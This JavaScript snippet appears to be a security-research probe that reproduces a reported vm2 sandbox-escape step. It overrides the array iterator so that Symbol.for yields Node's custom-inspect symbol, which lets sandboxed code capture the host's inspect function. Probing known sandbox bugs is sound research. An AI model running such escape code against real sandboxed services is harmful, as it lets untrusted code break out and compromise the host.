// Source: vm2 issue #533, comment by XmiliaH (2023-10-05), bug 4 of 4: "You can override the array
// iterator which is called in symbol(...opts)".
// Tried: replace Array.prototype[Symbol.iterator] so the key vm2's Symbol.for wrapper spreads turns
// into 'nodejs.util.inspect.custom' after its check.
const out = {};
try {
  const origIterator = Array.prototype[Symbol.iterator];
  Array.prototype[Symbol.iterator] = function () {
    this[0] = 'nodejs.util.inspect.custom';
    Array.prototype[Symbol.iterator] = origIterator;
    return this[Symbol.iterator]();
  };
} catch (e) { out.patch = String(e.message); }
const customInspectSymbol = Symbol.for('');
out.symbol = String(customInspectSymbol);
const obj = {
  [customInspectSymbol]: (depth, opt, inspect) => { out.hook = true; __wr.use(inspect, 'inspect argument'); return 'x'; },
  valueOf: undefined,
  constructor: undefined,
};
try { await WebAssembly.compileStreaming(obj).catch(() => undefined); } catch (e) { out.compileStreaming = String(e.message).slice(0, 80); }
console.log(obj);
return out;
